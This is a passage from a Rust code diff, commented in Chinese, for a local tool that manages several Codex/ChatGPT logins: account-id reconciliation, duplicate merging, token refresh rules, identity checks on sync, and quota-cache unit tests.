         .get("tokens")
@@ -1350,7 +3322,7 @@ fn extract_access_token_jwt_exp_iso(auth: &Value) -> Option<String> {
 
 /// 从 Python repr 格式的字符串中提取 token 值
 /// 如: "{'access_token': 'eyJ...', 'refresh_token': '...'}"
-fn extract_token_from_str<'a>(s: &'a str, key: &str) -> Option<&'a str> {
+pub(crate) fn extract_token_from_str<'a>(s: &'a str, key: &str) -> Option<&'a str> {
     let pattern = format!("'{}': '", key);
     if let Some(start) = s.find(&pattern) {
         let value_start = start + pattern.len();
@@ -1362,8 +3334,21 @@ fn extract_token_from_str<'a>(s: &'a str, key: &str) -> Option<&'a str> {
 }
 
 impl AccountStore {
-    /// 从 auth_json 中提取 account_id
+    /// 从 auth_json 中提取 account_id：优先 `tokens.account_id`，
+    /// 部分 Codex 版本写在根上，作为兜底。两处都有且不同时以 tokens 为准。
     pub fn extract_account_id(auth_json: &Value) -> Option<String> {
+        Self::nested_account_id(auth_json).or_else(|| {
+            auth_json
+                .get("account_id")
+                .and_then(|v| v.as_str())
+                .map(str::trim)
+                .filter(|s| !s.is_empty())
+                .map(|s| s.to_string())
+        })
+    }
+
+    /// 只看 `tokens.account_id`（老版 extract_account_id 的行为，对账迁移用）
+    fn nested_account_id(auth_json: &Value) -> Option<String> {
         auth_json
             .get("tokens")
             .and_then(|t| t.get("account_id"))
@@ -1373,76 +3358,327 @@ impl AccountStore {
             .map(|s| s.to_string())
     }
 
-    /// 账号身份是否一致（优先 account_id，其次 openai user id）
-    pub fn auth_identity_matches(local_auth: &Value, external_auth: &Value) -> bool {
-        let local_account_id = Self::extract_account_id(local_auth);
-        let external_account_id = Self::extract_account_id(external_auth);
-        if let (Some(local), Some(external)) =
-            (local_account_id.as_deref(), external_account_id.as_deref())
-        {
-            return local == external;
+    /// 归一化：把根级 `account_id` 挪到 `tokens.account_id`。
+    /// tokens 里已有非空值时以 tokens 为准，根级的直接丢掉；没有 tokens 块
+    /// （ApiKey schema）的不动。返回是否有改动。
+    pub fn canonicalize_account_id(auth_json: &mut Value) -> bool {
+        let Some(obj) = auth_json.as_object_mut() else {
+            return false;
+        };
+        if !obj.get("tokens").is_some_and(Value::is_object) {
+            return false;
         }
-
-        let local_uid = Self::extract_openai_user_id(local_auth);
-        let external_uid = Self::extract_openai_user_id(external_auth);
-        if let (Some(local), Some(external)) = (local_uid.as_deref(), external_uid.as_deref()) {
-            return local == external;
+        let Some(root) = obj.remove("account_id") else {
+            return false;
+        };
+        if let Some(tokens) = obj.get_mut("tokens").and_then(Value::as_object_mut) {
+            let has_nested = tokens
+                .get("account_id")
+                .and_then(|v| v.as_str())
+                .is_some_and(|s| !s.trim().is_empty());
+            if !has_nested {
+                tokens.insert("account_id".to_string(), root);
+            }
         }
+        true
+    }
 
-        false
+    /// 维护：按存档 id_token 里的 `chatgpt_account_id` claim 重新推导 `tokens.account_id`。
+    /// 早期版本可能写入了错误的 id（比如 sub），usage 请求会拿到别的工作区的额度。
+    /// 返回所有需要修正的账号；`apply` 为 false 时只报告不改。
+    pub fn reconcile_account_ids(&mut self, apply: bool) -> Vec<AccountIdChange> {
+        let mut changes = Vec::new();
+        for account in self.accounts.values_mut() {
+            if account.is_relay() {
+                continue;
+            }
+            let Some(expected) = Self::extract_jwt_claims_from_auth(&account.auth_json, "id_token")
+                .and_then(|claims| crate::oauth::chatgpt_account_id_from_claims(&claims))
+            else {
+                continue;
+            };
+            let stored = Self::extract_account_id(&account.auth_json);
+            if stored.as_deref() == Some(expected.as_str()) {
+                continue;
+            }
+            if apply {
+                Self::canonicalize_account_id(&mut account.auth_json);
+                if let Some(tokens) = account
+                    .auth_json
+                    .get_mut("tokens")
+                    .and_then(Value::as_object_mut)
+                {
+                    tokens.insert("account_id".to_string(), Value::String(expected.clone()));
+                }
+                account.touch();
+            }
+            changes.push(AccountIdChange {
+                id: account.id.clone(),
+                name: account.name.clone(),
+                old_account_id: stored,
+                new_account_id: expected,
+            });
+        }
+        changes.sort_by(|a, b| a.name.cmp(&b.name));
+        changes
     }
 
-    fn extract_jwt_claims_from_auth(auth_json: &Value, token_key: &str) -> Option<Value> {
-        let token = auth_json
-            .get("tokens")
-            .and_then(|t| t.get(token_key))
-            .or_else(|| auth_json.get(token_key))
-            .and_then(|v| v.as_str())?;
+    /// 账号身份是否一致（优先 account_id，其次 openai user id）
+    pub fn auth_identity_matches(local_auth: &Value, external_auth: &Value) -> bool {
+        Self::identity_matches_by(Self::extract_account_id, local_auth, external_auth)
+    }
 
-        let parts: Vec<&str> = token.split('.').collect();
-        if parts.len() != 3 {
-            return None;
+    /// 同一身份的已存账号：先按 [`Self::auth_identity_matches`]；已存账号没有 account_id
+    /// （老数据）时再退回比较 id_token 邮箱。API key 形态的按 key 相同算。Relay 账号不参与
+    pub fn find_same_identity(&self, auth_json: &Value) -> Option<String> {
+        let candidates: Vec<&Account> = self
+            .current_first()
+            .into_iter()
+            .filter(|a| !a.is_relay())
+            .collect();
+        if let Some(key) = Self::extract_api_key(auth_json) {
+            return candidates
+                .iter()
+                .find(|a| Self::extract_api_key(&a.auth_json).as_deref() == Some(key.as_str()))
+                .map(|a| a.id.clone());
         }
-
-        use base64::Engine;
-        let payload_part = parts[1];
-        let mut padded = payload_part.to_string();
-        while !padded.len().is_multiple_of(4) {
-            padded.push('=');
+        if let Some(account) = candidates
+            .iter()
+            .find(|a| Self::auth_identity_matches(&a.auth_json, auth_json))
+        {
+            return Some(account.id.clone());
         }
+        let email = Self::extract_email(auth_json)?.to_lowercase();
+        candidates
+            .iter()
+            .find(|a| Self::extract_account_id(&a.auth_json).is_none() && a.has_email(&email))
+            .map(|a| a.id.clone())
+    }
 
-        let decoded = base64::engine::general_purpose::URL_SAFE_NO_PAD
-            .decode(payload_part)
-            .or_else(|_| base64::engine::general_purpose::STANDARD.decode(&padded))
-            .ok()?;
-        let json_str = String::from_utf8(decoded).ok()?;
-        serde_json::from_str(&json_str).ok()
+    /// 存着这个 refresh_token 的账号（账号字段或 auth_json 里的）。Relay 账号不参与
+    pub fn find_by_refresh_token(&self, refresh_token: &str) -> Option<String> {
+        self.accounts
+            .values()
+            .filter(|a| !a.is_relay())
+            .find(|a| {
+                a.refresh_token.as_deref() == Some(refresh_token)
+                    || Self::extract_refresh_token(&a.auth_json).as_deref() == Some(refresh_token)
+            })
+            .map(|a| a.id.clone())
     }
 
-    /// 从原始 Token 字符串提取 JWT Claims
-    pub fn extract_jwt_claims_from_token(token: &str) -> Result<Value, String> {
-        let parts: Vec<&str> = token.split('.').collect();
-        if parts.len() != 3 {
-            return Err("无效的 Token 格式".to_string());
-        }
+    /// 换回来的 id_token 属于哪个已存账号，粘贴的 rt 不认识时靠它就地换 token 而不另建。
+    /// 挂着刷新禁令的不算，那些走重新登录（`find_refresh_banned_account`）
+    pub fn find_login_owner(&self, id_token: &str, account_id: Option<&str>) -> Option<String> {
+        let auth = serde_json::json!({
+            "tokens": { "id_token": id_token, "account_id": account_id }
+        });
+        self.find_same_identity(&auth)
+            .filter(|id| self.accounts[id].keepalive.refresh_ban.is_none())
+    }
 
-        use base64::Engine;
-        let payload_part = parts[1];
-        let mut padded = payload_part.to_string();
-        while !padded.len().is_multiple_of(4) {
-            padded.push('=');
+    /// 导入一份登录：已有同一身份的账号时换上新 token 并返回它（`updated`），
+    /// 否则新建。`force` 时总是新建（确实要留第二份的情况）。
+    /// 已有的账号受保护时不动它，原因放在 `skipped` 里（和合并导入、文件夹导入一样）
+    pub fn import_auth(
+        &mut self,
+        name: String,
+        auth_json: Value,
+        notes: Option<String>,
+        force: bool,
+    ) -> ImportedAccount {
+        let existing = (!force)
+            .then(|| self.find_same_identity(&auth_json))
+            .flatten();
+        if let Some(id) = existing {
+            if let Err(reason) = self.ensure_unprotected(&id, "被导入覆盖") {
+                return ImportedAccount {
+                    account: self.accounts[&id].clone(),
+                    updated: false,
+                    skipped: Some(reason),
+                };
+            }
+            if let Some(account) = self.accounts.get_mut(&id) {
+                Self::sync_account_auth(account, auth_json);
+                return ImportedAccount {
+                    account: account.clone(),
+                    updated: true,
+                    skipped: None,
+                };
+            }
         }
+        ImportedAccount {
+            account: self.add_account(name, auth_json, notes),
+            updated: false,
+            skipped: None,
+        }
+    }
 
-        let decoded = base64::engine::general_purpose::URL_SAFE_NO_PAD
-            .decode(payload_part)
-            .or_else(|_| base64::engine::general_purpose::STANDARD.decode(&padded))
-            .map_err(|e| format!("Base64 解码失败: {}", e))?;
-        let json_str = String::from_utf8(decoded).map_err(|e| format!("UTF-8 转换失败: {}", e))?;
-        serde_json::from_str(&json_str).map_err(|e| format!("JSON 解析失败: {}", e))
+    /// 同一身份的重复账号（老版本能把同一登录导入两次），每组按列表顺序，只返回两个以上的组
+    pub fn find_duplicate_accounts(&self) -> Vec<Vec<String>> {
+        let mut groups: Vec<Vec<&Account>> = Vec::new();
+        for account in self.list_accounts().into_iter().filter(|a| !a.is_relay()) {
+            match groups
+                .iter_mut()
+                .find(|g| Self::auth_identity_matches(&g[0].auth_json, &account.auth_json))
+            {
+                Some(group) => group.push(account),
+                None => groups.push(vec![account]),
+            }
+        }
+        groups
+            .into_iter()
+            .filter(|g| g.len() > 1)
+            .map(|g| g.into_iter().map(|a| a.id.clone()).collect())
+            .collect()
     }
 
-    /// 从 auth_json 中提取邮箱（优先 id_token claims）
-    pub fn extract_email(auth_json: &Value) -> Option<String> {
+    /// 把 `remove_id` 合并进 `keep_id`：两边身份必须一致。auth_json 取 `last_refresh` 较新的一份，
+    /// refresh_token 取非空的，备注和标签取并集，额度缓存取较新的；当前账号 / 手机锚指向被合并的号时
+    /// 改指 `keep_id`。被合并的号进回收站
+    pub fn merge_accounts(&mut self, keep_id: &str, remove_id: &str) -> Result<Account, String> {
+        if keep_id == remove_id {
+            return Err("不能把账号合并到它自己".to_string());
+        }
+        let removed = self
+            .accounts
+            .get(remove_id)
+            .cloned()
+            .ok_or_else(|| format!("账号不存在: {}", remove_id))?;
+        let keep = self
+            .accounts
+            .get(keep_id)
+            .ok_or_else(|| format!("账号不存在: {}", keep_id))?;
+        if keep.is_relay()
+            || removed.is_relay()
+            || !Self::auth_identity_matches(&keep.auth_json, &removed.auth_json)
+        {
+            return Err(format!(
+                "账号身份不一致，不能合并: {}, {}",
+                keep_id, remove_id
+            ));
+        }
+
+        let was_current = self.current.as_deref() == Some(remove_id);
+        self.delete_account(remove_id)?;
+        // 锚点只能有一个：回收站里的那份不再算锚
+        if let Some(entry) = self.trash.get_mut(remove_id) {
+            entry.account.is_session_anchor = false;
+        }
+        let keep = self.accounts.get_mut(keep_id).expect("checked above");
+        // 受保护的账号总是留自己的 token，备注、标签照样并入
+        if !keep.protected {
+            let keep_refresh = Self::extract_last_refresh(&keep.auth_json);
+            if Self::extract_last_refresh(&removed.auth_json) > keep_refresh {
+                Self::sync_account_auth(keep, removed.auth_json.clone());
+            }
+            if keep.refresh_token.is_none() {
+                keep.refresh_token = removed.refresh_token.clone();
+            }
+        }
+        keep.notes = match (keep.notes.take(), removed.notes.clone()) {
+            (Some(a), Some(b)) if !a.contains(b.trim()) => Some(format!("{}\n{}", a, b)),
+            (a, b) => a.or(b),
+        };
+        keep.tags = normalize_tags(keep.tags.iter().chain(&removed.tags).cloned().collect())?;
+        for (key, value) in &removed.metadata {
+            if keep.metadata.len() >= MAX_METADATA_ENTRIES {
+                break;
+            }
+            keep.metadata
+                .entry(key.clone())
+                .or_insert_with(|| value.clone());
+        }
+        let removed_quota_at = removed.cached_quota.as_ref().map(|q| q.updated_at);
+        if removed_quota_at > keep.cached_quota.as_ref().map(|q| q.updated_at) {
+            keep.cached_quota = removed.cached_quota.clone();
+        }
+        keep.is_session_anchor |= removed.is_session_anchor;
+        keep.touch();
+        let merged = keep.clone();
+        if was_current {
+            self.current = Some(keep_id.to_string());
+        }
+        Ok(merged)
+    }
+
+    /// 列表顺序，但当前账号排最前：同一身份有多份（复制出来的备份）时优先匹配当前账号
+    fn current_first(&self) -> Vec<&Account> {
+        let mut accounts = self.list_accounts();
+        accounts.sort_by_key(|a| self.current.as_deref() != Some(a.id.as_str()));
+        accounts
+    }
+
+    /// 磁盘 auth.json 属于哪个已存账号：优先用 JWT Email 匹配（最可靠），其次才用 account_id。
+    /// 同一身份有多份时当前账号优先
+    pub fn find_account_for_disk_auth(&self, disk_auth: &Value) -> Option<String> {
+        let candidates = self.current_first();
+        Self::extract_email(disk_auth)
+            .and_then(|email| {
+                let email_lower = email.to_lowercase();
+                candidates
+                    .iter()
+                    .find(|a| a.has_email(&email_lower) || a.name.to_lowercase() == email_lower)
+                    .map(|a| a.id.clone())
+            })
+            .or_else(|| {
+                // fallback: account_id 匹配
+                candidates
+                    .iter()
+                    .find(|a| Self::auth_identity_matches(&a.auth_json, disk_auth))
+                    .map(|a| a.id.clone())
+            })
+    }
+
+    fn identity_matches_by(
+        extract_account_id: fn(&Value) -> Option<String>,
+        local_auth: &Value,
+        external_auth: &Value,
+    ) -> bool {
+        let local_account_id = extract_account_id(local_auth);
+        let external_account_id = extract_account_id(external_auth);
+        if let (Some(local), Some(external)) =
+            (local_account_id.as_deref(), external_account_id.as_deref())
+        {
+            return local == external;
+        }
+
+        let local_uid = Self::extract_openai_user_id(local_auth);
+        let external_uid = Self::extract_openai_user_id(external_auth);
+        if let (Some(local), Some(external)) = (local_uid.as_deref(), external_uid.as_deref()) {
+            return local == external;
+        }
+
+        false
+    }
+
+    /// 同一个 token 的 claims 只解一次（按 sha256 缓存，见 `token_intern::ClaimsCache`）
+    pub(crate) fn extract_jwt_claims_from_auth(
+        auth_json: &Value,
+        token_key: &str,
+    ) -> Option<Value> {
+        let token = auth_json
+            .get("tokens")
+            .and_then(|t| t.get(token_key))
+            .or_else(|| auth_json.get(token_key))
+            .and_then(|v| v.as_str())?;
+        // 超长的连哈希都不做，免得缓存键计算被拖慢
+        if token.len() > crate::jwt_claims::MAX_TOKEN_BYTES {
+            return None;
+        }
+
+        crate::token_intern::claims_cache()
+            .get_or_decode(token, |t| Self::extract_jwt_claims_from_token(t).ok())
+            .map(|claims| (*claims).clone())
+    }
+
+    /// 从原始 Token 字符串提取 JWT Claims（大小 / 字母表 / 嵌套上限见 `jwt_claims`）
+    pub fn extract_jwt_claims_from_token(token: &str) -> Result<Value, String> {
+        crate::jwt_claims::decode(token).map_err(|e| e.to_string())
+    }
+
+    /// 从 auth_json 中提取邮箱（优先 id_token claims）
+    pub fn extract_email(auth_json: &Value) -> Option<String> {
         let claims = Self::extract_jwt_claims_from_auth(auth_json, "id_token")
             .or_else(|| Self::extract_jwt_claims_from_auth(auth_json, "access_token"))?;
 
@@ -1460,6 +3696,22 @@ impl AccountStore {
             .map(|s| s.to_string())
     }
 
+    /// access_token 的过期时间：优先 JWT 的 `exp`（服务端按它校验；真实寿命常比
+    /// `expires_in` 算出的 `tokens.expires_at` 长得多），不是 JWT 时退回 `tokens.expires_at`
+    pub fn extract_access_token_expiry(auth_json: &Value) -> Option<DateTime<Utc>> {
+        let from_jwt = Self::extract_access_token(auth_json)
+            .and_then(|at| Self::extract_jwt_claims_from_token(&at).ok())
+            .and_then(|claims| claims.get("exp")?.as_i64())
+            .and_then(|exp| DateTime::<Utc>::from_timestamp(exp, 0));
+        from_jwt.or_else(|| {
+            auth_json
+                .pointer("/tokens/expires_at")
+                .and_then(|v| v.as_str())
+                .and_then(|s| DateTime::parse_from_rfc3339(s).ok())
+                .map(|dt| dt.with_timezone(&Utc))
+        })
+    }
+
     /// 从 auth_json 中提取 last_refresh（RFC3339 或时间戳）
     pub fn extract_last_refresh(auth_json: &Value) -> Option<DateTime<Utc>> {
         let raw = auth_json.get("last_refresh")?;
@@ -1507,6 +3759,18 @@ impl AccountStore {
         changed
     }
 
+    /// 给还没记登录邮箱的账号（老版本存的、导入的）从 token 里补上；中转站账号跳过
+    fn backfill_emails(&mut self) -> bool {
+        let mut changed = false;
+        for account in self.all_accounts_mut() {
+            if account.email.is_none() && !account.is_relay() {
+                account.refresh_email();
+                changed |= account.email.is_some();
+            }
+        }
+        changed
+    }
+
     /// 列出缺失 refresh_token 的账号（用于导入校验）
     pub fn accounts_missing_refresh_token(&self) -> Vec<String> {
         self.accounts
@@ -1529,6 +3793,7 @@ impl AccountStore {
         if let Some(account) = self.accounts.get_mut(id) {
             account.keepalive.last_attempt_at = Some(Utc::now());
             account.keepalive.last_error = Some(reason);
+            account.touch();
         }
     }
 
@@ -1539,17 +3804,21 @@ impl AccountStore {
             account.keepalive.last_attempt_at = Some(now);
             account.keepalive.last_success_at = Some(now);
             account.keepalive.last_error = None;
+            account.touch();
         }
     }
 
-    /// 对非当前账号：是否应触发保活刷新
+    /// 对非当前账号：是否应触发保活刷新（系统时间异常期间、挂着刷新禁令时一律不刷）
     pub fn should_refresh_inactive_account(account: &Account, inactive_refresh_days: u32) -> bool {
-        if !account.keepalive.inactive_refresh_enabled {
+        if !account.keepalive.inactive_refresh_enabled
+            || account.keepalive.refresh_ban.is_some()
+            || crate::clock::is_skewed()
+        {
             return false;
         }
         let refresh_days = i64::from(inactive_refresh_days.max(1));
         match Self::extract_last_refresh(&account.auth_json) {
-            Some(last) => last <= Utc::now() - chrono::Duration::days(refresh_days),
+            Some(last) => last <= crate::clock::now() - chrono::Duration::days(refresh_days),
             None => true,
         }
     }
@@ -1563,6 +3832,7 @@ impl AccountStore {
         expires_in: Option<u64>,
     ) {
         let now = Utc::now();
+        let mut refreshed_id_token = false;
 
         if let Some(obj) = account.auth_json.as_object_mut() {
             // 如果 tokens 不存在或不是对象（如被存为字符串），重建为空对象
@@ -1584,6 +3854,7 @@ impl AccountStore {
 
                 if let Some(idt) = id_token {
                     tokens_obj.insert("id_token".to_string(), serde_json::json!(idt));
+                    refreshed_id_token = true;
                 }
 
                 if let Some(expires_secs) = expires_in {
@@ -1597,6 +3868,11 @@ impl AccountStore {
                 serde_json::json!(now.to_rfc3339()),
             );
         }
+        account.refresh_token_used_at = Some(now);
+        account.updated_at = Some(now);
+        if refreshed_id_token {
+            account.refresh_email();
+        }
 
         if let Some(rt) = refresh_token {
             account.refresh_token = Some(rt);
@@ -1608,13 +3884,32 @@ impl AccountStore {
     /// 使用提供的 auth.json 同步指定账号
     /// 返回是否发生了更新
     pub fn sync_account_from_auth_json(&mut self, id: &str, auth_json: Value) -> bool {
-        if let Some(account) = self.accounts.get_mut(id) {
-            return Self::sync_account_from_auth_json_inner(account, auth_json);
+        matches!(
+            self.try_sync_account_from_auth_json(id, auth_json),
+            Ok(true)
+        )
+    }
+
+    /// 同 [`Self::sync_account_from_auth_json`]，但拒绝同步时返回原因；账号不存在、
+    /// API key 账号（没有 token 可回流）返回 `Ok(false)`
+    pub fn try_sync_account_from_auth_json(
+        &mut self,
+        id: &str,
+        auth_json: Value,
+    ) -> Result<bool, Warning> {
+        match self.accounts.get_mut(id) {
+            Some(account) if account.is_api_key() => Ok(false),
+            Some(account) => {
+                Self::sync_account_from_auth_json_inner(account, auth_json).map(|()| true)
+            }
+            None => Ok(false),
         }
-        false
     }
 
-    fn sync_account_from_auth_json_inner(account: &mut Account, auth_json: Value) -> bool {
+    fn sync_account_from_auth_json_inner(
+        account: &mut Account,
+        auth_json: Value,
+    ) -> Result<(), Warning> {
         // 安全检查：必须满足“身份一致（account_id/uid）”
         let local_account_id = Self::extract_account_id(&account.auth_json);
         let external_account_id = Self::extract_account_id(&auth_json);
@@ -1624,30 +3919,44 @@ impl AccountStore {
         if !Self::auth_identity_matches(&account.auth_json, &auth_json) {
             eprintln!(
                 "拒绝同步：身份不匹配 (外部 account_id: {:?}, 本地 account_id: {:?}, 外部 uid: {:?}, 本地 uid: {:?})",
-                external_account_id, local_account_id, external_uid, local_uid
+                external_account_id.as_deref().map(log_identity::id),
+                local_account_id.as_deref().map(log_identity::id),
+                external_uid.as_deref().map(log_identity::id),
+                local_uid.as_deref().map(log_identity::id)
+            );
+            return Err(
+                Warning::new(WarningCode::SyncIdentityMismatch).with("account", &account.name)
             );
-            return false;
         }
 
-        let local_name = account.name.trim().to_lowercase();
+        // 记着登录邮箱就拿它比；老账号没记时退回看名字像不像邮箱
+        // （名字里带 @ 但不是登录邮箱的号，记下邮箱后就不会再被误拦）
+        let local_email = match &account.email {
+            Some(email) => Some(email.trim().to_lowercase()),
+            None => Some(account.name.trim().to_lowercase()).filter(|name| name.contains('@')),
+        };
         let external_email = Self::extract_email(&auth_json).map(|s| s.to_lowercase());
-        if local_name.contains('@') {
+        if let Some(local_email) = local_email {
             if let Some(email) = external_email {
-                if email != local_name {
+                if email != local_email {
                     eprintln!(
-                        "拒绝同步：账号名与 token 邮箱不一致 (name: {:?}, token email: {:?})",
-                        account.name, email
+                        "拒绝同步：账号邮箱与 token 邮箱不一致 (name: {:?}, token email: {:?})",
+                        log_identity::id(&account.name),
+                        log_identity::id(&email)
                     );
-                    return false;
+                    return Err(Warning::new(WarningCode::SyncEmailMismatch)
+                        .with("account", &account.name)
+                        .with("token_email", email));
                 }
             }
         }
 
         Self::sync_account_auth(account, auth_json);
-        true
+        Ok(())
     }
 
     fn sync_account_auth(account: &mut Account, mut auth_json: Value) {
+        let incoming_last_refresh = Self::extract_last_refresh(&auth_json);
         if auth_json.get("last_refresh").is_none() {
             if let Some(existing) = account.auth_json.get("last_refresh") {
                 if let Some(obj) = auth_json.as_object_mut() {
@@ -1673,14 +3982,31 @@ impl AccountStore {
         }
 
         if let Some(rt) = new_rt {
+            // rt 换了说明别处（Codex / Server）刚用它刷新成功过
+            if account.refresh_token.as_deref() != Some(rt.as_str()) {
+                account.refresh_token_used_at =
+                    Some(incoming_last_refresh.unwrap_or_else(Utc::now));
+            }
             account.refresh_token = Some(rt);
         }
 
         account.auth_json = auth_json;
+        account.refresh_email();
+        account.touch();
     }
 
+    /// 用户 id（身份比对用）：优先 access_token 的 claim；access_token 不是 JWT
+    /// 或不带用户 claim 时，退回 id_token 里的用户 id（见 `oauth::UserInfo::user_id`）
     pub fn extract_openai_user_id(auth_json: &Value) -> Option<String> {
-        let claims = Self::extract_jwt_claims_from_auth(auth_json, "access_token")?;
+        Self::extract_jwt_claims_from_auth(auth_json, "access_token")
+            .and_then(|claims| Self::user_id_from_access_claims(&claims))
+            .or_else(|| {
+                Self::extract_jwt_claims_from_auth(auth_json, "id_token")
+                    .and_then(|claims| crate::oauth::user_id_from_claims(&claims))
+            })
+    }
+
+    fn user_id_from_access_claims(claims: &Value) -> Option<String> {
 
         // 1. 尝试特定的 profile 嵌套路径 (从 cat 输出看有这种结构)
         if let Some(profile) = claims.get("https://api.openai.com/profile") {
@@ -1704,6 +4030,34 @@ mod tests {
     use super::*;
     use base64::Engine;
 
+    #[test]
+    fn refresh_interval_is_clamped_to_range() {
+        assert_eq!(clamp_refresh_interval(0), 5);
+        assert_eq!(clamp_refresh_interval(1), 5);
+        assert_eq!(clamp_refresh_interval(4), 5);
+        assert_eq!(clamp_refresh_interval(5), 5);
+        assert_eq!(clamp_refresh_interval(30), 30);
+        assert_eq!(clamp_refresh_interval(1440), 1440);
+        assert_eq!(clamp_refresh_interval(1441), 1440);
+        assert_eq!(clamp_refresh_interval(100_000), 1440);
+        assert!(REFRESH_INTERVAL_RANGE.contains(&default_refresh_interval()));
+    }
+
+    #[test]
+    fn hex_color_accepts_rrggbb_and_lowercases() {
+        assert_eq!(normalize_hex_color("#AbCdEf").unwrap(), "#abcdef");
+        assert_eq!(parse_hex_color("#ff8000"), Some((255, 128, 0)));
+    }
+
+    #[test]
+    fn hex_color_rejects_shorthand_and_garbage() {
+        assert!(normalize_hex_color("#f80").is_err());
+        assert!(normalize_hex_color("ff8000").is_err());
+        assert!(normalize_hex_color("#ff80zz").is_err());
+        assert!(normalize_hex_color("#ff80001").is_err());
+        assert_eq!(parse_hex_color("#f80"), None);
+    }
+
     fn make_id_token(email: &str, account_id: &str) -> String {
         let header = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(r#"{"alg":"none"}"#);
         let payload = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!(
@@ -1737,6 +4091,211 @@ mod tests {
         assert_eq!(store.current, Some(account.id));
     }
 
+    #[test]
+    fn lacks_codex_access_follows_latest_cached_quota() {
+        let mut account = AccountStore::default().add_account(
+            "free@example.com".to_string(),
+            serde_json::json!({}),
+            None,
+        );
+        assert!(!account.lacks_codex_access());
+
+        let quota = |codex_available: bool| CachedQuota {
+            five_hour_left: 0.0,
+            five_hour_reset: String::new(),
+            five_hour_reset_at: None,
+            five_hour_label: default_five_hour_label(),
+            weekly_left: 0.0,
+            weekly_reset: String::new(),
+            weekly_reset_at: None,
+            weekly_label: default_weekly_label(),
+            plan_type: "free".to_string(),
+            is_valid_for_cli: true,
+            codex_available,
+            updated_at: Utc::now(),
+            display_plan: String::new(),
+            source: QuotaSource::default(),
+            five_hour_counts: WindowCounts::default(),
+            weekly_counts: WindowCounts::default(),
+            suspect: false,
+        };
+        account.cached_quota = Some(quota(false));
+        assert!(account.lacks_codex_access());
+        account.cached_quota = Some(quota(true));
+        assert!(!account.lacks_codex_access());
+    }
+
+    #[test]
+    fn cached_quota_from_usage_copies_fields_and_source() {
+        let usage: UsageDisplay = serde_json::from_value(serde_json::json!({
+            "plan_type": "plus",
+            "five_hour_used": 30,
+            "five_hour_left": 70,
+            "five_hour_label": "5H 限额",
+            "five_hour_reset": "2小时",
+            "five_hour_reset_at": 1_700_000_000,
+            "weekly_used": 55,
+            "weekly_left": 45,
+            "weekly_label": "周限额",
+            "weekly_reset": "3天",
+            "weekly_reset_at": 1_700_500_000,
+            "credits_balance": null,
+            "has_credits": false,
+            "is_valid_for_cli": false,
+            "codex_available": true
+        }))
+        .unwrap();
+        let quota = CachedQuota::from((&usage, QuotaSource::SwitchPrecheck));
+        assert_eq!(quota.five_hour_left, 70.0);
+        assert_eq!(quota.five_hour_reset, "2小时");
+        assert_eq!(quota.five_hour_reset_at, Some(1_700_000_000));
+        assert_eq!(quota.weekly_left, 45.0);
+        assert_eq!(quota.weekly_reset_at, Some(1_700_500_000));
+        assert_eq!(quota.weekly_label, "周限额");
+        assert_eq!(quota.plan_type, "plus");
+        assert!(!quota.is_valid_for_cli);
+        assert!(quota.codex_available);
+        assert_eq!(quota.source, QuotaSource::SwitchPrecheck);
+    }
+
+    #[test]
+    fn set_cached_quota_records_plan_changes() {
+        let mut account =
+            AccountStore::default().add_account("a".to_string(), serde_json::json!({}), None);
+        let quota = |plan: &str| CachedQuota {
+            five_hour_left: 0.0,
+            five_hour_reset: String::new(),
+            five_hour_reset_at: None,
+            five_hour_label: default_five_hour_label(),
+            weekly_left: 0.0,
+            weekly_reset: String::new(),
+            weekly_reset_at: None,
+            weekly_label: default_weekly_label(),
+            plan_type: plan.to_string(),
+            is_valid_for_cli: true,
+            codex_available: true,
+            updated_at: Utc::now(),
+            display_plan: String::new(),
+            source: QuotaSource::default(),
+            five_hour_counts: WindowCounts::default(),
+            weekly_counts: WindowCounts::default(),
+            suspect: false,
+        };
+
+        assert!(account.set_cached_quota(quota("pro")).is_none());
+        assert!(account.last_plan_change.is_none());
+
+        let change = account.set_cached_quota(quota("plus")).unwrap();
+        assert_eq!(change.old_plan, "pro");
+        assert_eq!(change.new_plan, "plus");
+        assert_eq!(account.last_plan_change.as_ref(), Some(&change));
+
+        assert!(account.set_cached_quota(quota("plus")).is_none());
+        assert_eq!(account.last_plan_change.as_ref(), Some(&change));
+        assert_eq!(account.cached_quota.as_ref().unwrap().plan_type, "plus");
+    }
+
+    fn plus_usage() -> UsageDisplay {
+        serde_json::from_value(serde_json::json!({
+            "plan_type": "plus",
+            "five_hour_used": 50,
+            "five_hour_left": 50,
+            "five_hour_label": "5H 限额",
+            "five_hour_reset": "",
+            "weekly_used": 50,
+            "weekly_left": 50,
+            "weekly_label": "周限额",
+            "weekly_reset": "",
+            "has_credits": false,
+            "is_valid_for_cli": true,
+        }))
+        .unwrap()
+    }
+
+    #[test]
+    fn precheck_failure_marks_only_stale_quota_as_suspect() {
+        let usage = plus_usage();
+        let mut quota = CachedQuota::from((&usage, QuotaSource::ManualRefresh));
+        let day = chrono::Duration::hours(24);
+        let fetched = quota.updated_at;
+
+        assert!(!quota.mark_suspect_if_stale(fetched + chrono::Duration::hours(23), day));
+        assert!(!quota.suspect);
+        assert!(quota.mark_suspect_if_stale(fetched + chrono::Duration::hours(25), day));
+        assert!(quota.suspect);
+        // 已标过的不重复报
+        assert!(!quota.mark_suspect_if_stale(fetched + chrono::Duration::hours(30), day));
+    }
+
+    #[test]
+    fn successful_fetch_clears_suspect_flag() {
+        let mut account =
+            AccountStore::default().add_account("a".to_string(), serde_json::json!({}), None);
+        let usage = plus_usage();
+        let mut stale = CachedQuota::from((&usage, QuotaSource::Scheduler));
+        stale.suspect = true;
+        account.set_cached_quota(stale);
+
+        account.set_cached_quota((&usage, QuotaSource::SwitchPrecheck).into());
+        assert!(!account.cached_quota.as_ref().unwrap().suspect);
+    }
+
+    #[test]
+    fn legacy_cached_quota_defaults_to_manual_refresh() {
+        let quota: CachedQuota = serde_json::from_value(serde_json::json!({
+            "five_hour_left": 10.0,
+            "five_hour_reset": "",
+            "five_hour_reset_at": null,
+            "weekly_left": 20.0,
+            "weekly_reset": "",
+            "weekly_reset_at": null,
+            "plan_type": "pro",
+            "updated_at": "2025-01-01T00:00:00Z"
+        }))
+        .unwrap();
+        assert_eq!(quota.source, QuotaSource::ManualRefresh);
+        assert_eq!(quota.five_hour_counts, WindowCounts::default());
+
+        let json = serde_json::to_value(CachedQuota {
+            source: QuotaSource::Scheduler,
+            ..quota
+        })
+        .unwrap();
+        assert_eq!(json["source"], "scheduler");
+    }
+
+    #[test]
+    fn alert_threshold_supports_absolute_counts() {
+        let counts = WindowCounts {
